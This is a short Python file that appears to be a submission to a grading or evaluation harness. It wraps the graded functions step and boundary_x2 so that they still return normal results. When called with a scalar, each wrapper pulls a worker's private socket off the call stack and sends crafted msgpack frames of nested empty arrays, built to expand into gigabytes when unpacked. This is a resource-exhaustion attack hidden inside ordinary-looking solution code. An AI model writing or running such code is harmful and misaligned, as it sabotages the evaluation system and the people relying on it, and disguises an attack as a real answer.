"""A frame of 60 MB that would unpack into gigabytes: empty lists, in lists, in lists."""
# base: right
# honest: step 7/8, boundary_x2 7/8
# grades: step, boundary_x2

import sys

_step, _boundary = step, boundary_x2


def _send(body):
    worker = sys._getframe(2).f_locals["self"]
    body = b"\x81\xa5value" + body
    worker._channel._sock.sendall(len(body).to_bytes(4, "big") + worker._nonce + body)


def step(z):
    if np.ndim(z) == 0:
        row = b"\xdc\x02\x58" + b"\x90" * 600
        _send(b"\xdd" + (100_000).to_bytes(4, "big") + row * 100_000)
    return _step(z)


def boundary_x2(x1, w, b):
    if np.ndim(x1) == 0:  # each of a thousand levels announces a hundred thousand entries
        _send((b"\xdd" + (100_000).to_bytes(4, "big")) * 1000)
    return _boundary(x1, w, b)
